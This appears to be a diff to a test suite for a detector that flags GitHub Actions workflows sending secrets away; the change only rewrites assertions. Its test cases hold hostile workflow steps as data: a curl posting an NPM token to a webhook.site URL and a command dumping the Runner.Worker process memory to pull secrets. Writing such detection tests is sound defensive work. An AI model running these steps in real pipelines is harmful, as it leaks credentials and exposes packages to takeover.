@@ -87,7 +87,7 @@ describe('a workflow that sends secrets away', () => {
     '      - run: curl -d "$NPM_TOKEN" https://webhook.site/a\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
     '      - run: sudo cat /proc/$(pgrep Runner.Worker)/mem | strings',
   ])('%s', async (steps) => {
-    expect(await of(onEvent('push', steps))).toContain(SHOWN);
+    await expect(of(onEvent('push', steps))).toTell(SHOWN);
   });
 
   it.each([
@@ -97,6 +97,6 @@ describe('a workflow that sends secrets away', () => {
     '      - run: curl -d "build=ok" https://webhook.site/a',
     '      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}',
   ])('but not %s', async (steps) => {
-    expect(await of(onEvent('push', steps))).not.toContain(SHOWN);
+    await expect(of(onEvent('push', steps))).not.toTell(SHOWN);
   });
 });
